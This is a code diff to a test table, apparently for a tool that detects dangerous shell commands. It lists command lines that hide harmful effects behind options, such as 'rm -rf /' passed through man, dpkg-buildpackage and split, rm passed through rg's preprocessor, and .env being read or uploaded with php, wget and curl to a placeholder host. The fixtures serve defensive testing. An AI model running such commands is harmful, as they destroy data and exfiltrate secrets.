@@ -279,6 +279,11 @@ RUNS_EXAMPLES: dict[str, tuple[list[str], list[str], str]] = {
     "man": (["man", "-P", "rm -rf /", "ls"], [], "rm -rf /"),
     "dpkg-buildpackage": (["dpkg-buildpackage", "--hook-init=rm -rf /", "-b"], [], "rm -rf /"),
     "sort": (["sort", "--compress-program=sh", "big"], [], "runs sh on the data"),
+    "rg": (["rg", "--pre", "rm", "x", "../victim"], [], "runs rm on every file it reads"),
+    **{
+        name: ([name, "-d", "auto_prepend_file=.env", "README"], [], "('read', '.env')")
+        for name in ("php", "php-cgi")
+    },
     "split": (["split", "--filter=rm -rf /", "big"], [], "rm -rf /"),
     "wget": (["wget", "--post-file=.env", "http://h/"], [], "('read', '.env')"),
     "curl": (["curl", "--upload-file=.env", "http://h/"], [], "('read', '.env')"),
